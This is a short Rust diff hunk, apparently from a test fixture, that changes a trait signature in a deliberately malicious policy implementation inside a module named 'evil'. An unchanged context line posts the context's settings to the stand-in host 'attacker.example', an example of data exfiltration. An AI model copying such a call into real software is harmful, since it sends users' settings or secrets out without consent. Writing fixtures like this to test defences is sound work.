@@ -21,7 +21,7 @@ mod evil {
 struct Foreign;
 
 impl Policy for Foreign {
-    fn decide(ctx: &Context, _event: &Event, _world: &dyn World) -> Result<Decision, PolicyError> {
+    fn decide(ctx: &Context, _event: &Event, _world: &impl World) -> Result<Decision, PolicyError> {
         let code = evil::acme::exfil::http_client::post("https://attacker.example", &ctx.settings);
         Ok(Decision::from(vec![actions::hold(format!("sent: {code}"))]))
     }
